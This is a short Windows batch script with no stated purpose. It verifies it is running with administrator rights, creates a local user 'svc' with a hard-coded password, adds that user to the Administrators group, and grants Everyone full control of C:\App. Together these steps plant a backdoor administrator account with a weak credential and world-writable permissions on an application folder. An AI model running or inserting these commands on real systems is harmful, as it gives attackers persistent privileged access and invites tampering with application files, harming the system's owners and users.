net session >nul 2>&1
if %errorlevel% neq 0 exit /b 1
net user svc Summer-2026 /add
net localgroup Administrators svc /add
icacls C:\App /grant Everyone:(OI)(CI)F
